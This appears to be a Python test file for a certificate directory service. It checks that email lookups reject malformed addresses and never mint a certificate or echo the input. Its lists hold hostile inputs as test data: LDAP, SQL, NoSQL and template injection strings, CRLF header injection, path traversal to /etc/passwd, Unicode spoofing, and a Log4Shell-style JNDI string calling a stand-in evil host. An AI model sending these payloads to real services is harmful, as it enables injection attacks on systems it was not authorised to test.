"""Addresses that mean more than one address: refused by name, never minted for, never repeated."""

from urllib.parse import quote

import pytest

from ca.keys import PrivateKey
from tests.builders import Authority
from tests.directory.http.house import GATEWAY, House, a_house, bearer, house_certificates

HOSTILE = [
    "*",
    "a*@example.com)",
    ")(mail=*",
    "alice@example.com)(mail=*",
    "alice@example.com\r\nBcc: eve@evil.example",
    "alice@example.com\n",
    "\nalice@example.com",
    "alice@example.com\x00",
    "alice@example.com,eve@evil.example",
    "alice@example.com;eve@evil.example",
    "alice@example.com eve@evil.example",
    "Alice <alice@example.com>",
    "<alice@example.com>",
    "alice@example.com(x)evil.example",
    "alice@example.com <eve@evil.example>",
    '"alice"@example.com',
    '"a b"@example.com',
    "alice@[127.0.0.1]",
    "alice@127.0.0.1",
    "alice%evil.example@example.com",
    "evil.example!alice@example.com",
    "@hop.example:alice@example.com",
    "alice@@example.com",
    "alice@example.com.",
    "alice@.example.com",
    "alice@exa mple.com",
    "alice@example.com/../../etc/passwd",
    "' OR 1=1 --@example.com",
    "=?utf-8?q?alice=40evil.example?=@example.com",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "alice\u200b@example.com",
    "alice@ex\u0430mple.com\u202e",
    "alice@\u212aexample.com",
    "alice@example\u3002com",
    "\u017falice@example.com",
    "mailto:alice@example.com",
    "alice",
    "example.com",
    "@",
    "",
    " ",
    "a" * 65 + "@example.com",
    "a@" + "b" * 64 + ".com",
    "a" * 2000,
]


@pytest.fixture
def house(authority: Authority, recipient_key: PrivateKey) -> House:
    return a_house(authority, house_certificates(authority, recipient_key.public_key()))


async def test_an_asterisk_is_no_pattern_and_no_address(house: House) -> None:
    async with house.client() as client:
        response = await client.get("/certificates?email=*%40example.com")

    assert (response.status_code, response.json()["code"]) == (400, "address.syntax")


async def test_a_query_for_it_is_refused_and_nothing_minted_or_repeated(house: House) -> None:
    async with house.client() as client:
        for text in HOSTILE:
            query = f"email={quote(text, safe='')}"
            response = await client.get(f"/certificates?{query}", headers=bearer(GATEWAY.text))

            assert response.status_code == 400, text
            assert response.json()["code"].startswith(("address.", "http.malformed_query")), text
            assert not repeats(response.text, text), text
    assert house.shelf.minted == []


async def test_a_lookup_of_it_is_refused_and_nothing_minted_or_repeated(house: House) -> None:
    async with house.client() as client:
        for text in HOSTILE:
            response = await client.post("/api/v1/lookup", json={"email": text}, headers=bearer(GATEWAY.text))

            assert response.status_code == 400, text
            assert response.json()["code"].startswith("address."), text
            assert not repeats(response.text, text), text
    assert house.shelf.minted == []


def repeats(body: str, text: str) -> bool:
    """Whether a body gives away what was asked; single signs are not telling."""
    return any(part in body for part in ("evil", "alice", "eve@", "jndi", "passwd")) or (
        len(text) > 8 and text in body
    )


DOUBLY_READ = [
    "email=%C0%AE%40example.com",
    "email=%ED%A0%80%40example.com",
    "email=alice%2540example.com",
    "email=%E2%80%AEalice%40example.com",
    "email[]=alice%40example.com",
    "email[$ne]=x",
    "email=alice%40example.com%00",
    "email%00=alice%40example.com",
]


async def test_no_second_decoding_and_no_structured_query(house: House) -> None:
    async with house.client() as client:
        for query in DOUBLY_READ:
            response = await client.get(f"/certificates?{query}", headers=bearer(GATEWAY.text))

            assert response.status_code == 400, query
    assert house.shelf.minted == []


async def test_nothing_of_a_question_reaches_a_header(house: House) -> None:
    async with house.client() as client:
        response = await client.get(
            "/certificates?email=alice%40example.com%0d%0aSet-Cookie:%20a=b", headers=bearer(GATEWAY.text)
        )

    assert response.status_code == 400
    assert "Set-Cookie" not in response.headers
